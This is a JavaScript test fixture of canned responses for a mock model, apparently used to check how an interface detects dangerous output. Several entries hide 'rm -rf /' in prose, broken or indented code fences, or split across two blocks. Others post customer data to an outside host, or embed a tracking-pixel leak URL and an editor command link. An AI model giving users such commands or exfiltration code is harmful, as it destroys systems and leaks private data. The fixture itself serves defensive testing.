// What the sample model answers: the first script whose word occurs in the prompt.
const wipe = 'rm -rf /';

const fenced = (language, ...lines) => [`\`\`\`${language}`, ...lines, '```'].join('\n');

module.exports = [
  { word: 'in prose', text: `To free the disk, open a terminal as root and run ${wipe} right away.\nThat is all.\n` },
  { word: 'unclosed', text: `Here is the command:\n\n\`\`\`bash\ncd /\n${wipe}\n` },
  { word: 'indented', text: `Here is the command:\n\n1. Open a terminal and run\n\n   \`\`\`bash\n   ${wipe}\n   \`\`\`\n\nDone.\n` },
  {
    word: 'two parts',
    text: `First set the target:\n\n${fenced('bash', 'TARGET=/')}\n\nThen remove it:\n\n${fenced('bash', 'rm -rf "$TARGET"')}\n\nDone.\n`,
  },
  { word: 'clean', text: `This frees all the space there is:\n\n${fenced('bash', wipe)}\n\nAfterwards the disk is empty.\n` },
  {
    word: 'upload',
    text: `This sends the list to the partner:\n\n${fenced('js', "await fetch('https://partner.example/import', { method: 'POST', body: JSON.stringify(customers) });")}\n`,
  },
  { word: 'picture', text: '![a picture](https://pictures.example/pixel.png?leak=1) and a [command](command:workbench.action.quit).\n' },
  { word: 'slowly', text: `${Array.from({ length: 30 }, (_, line) => `Line ${line + 1} of a slow answer.`).join('\n')}\n`, pauseMs: 120 },
  { word: 'break off', text: 'This answer begins well,\nbut then the connection\n', error: 'The sample model lost its connection.' },
  {
    // As a service answers: a while until the first word, then some forty words a second.
    word: 'usual pace',
    text: `${'A list is sorted by comparing two of its elements at a time.\n'.repeat(8)}\n${fenced('js', 'const sorted = [...names].sort();')}\n\nThe original list stays as it was.\n`,
    firstMs: 400,
    pauseMs: 25,
  },
  {
    word: 'safe',
    text: `A list is sorted like this:\n\n${fenced('js', 'const sorted = [...names].sort((a, b) => a.localeCompare(b));')}\n\nThe original list stays as it was.\n`,
  },
];
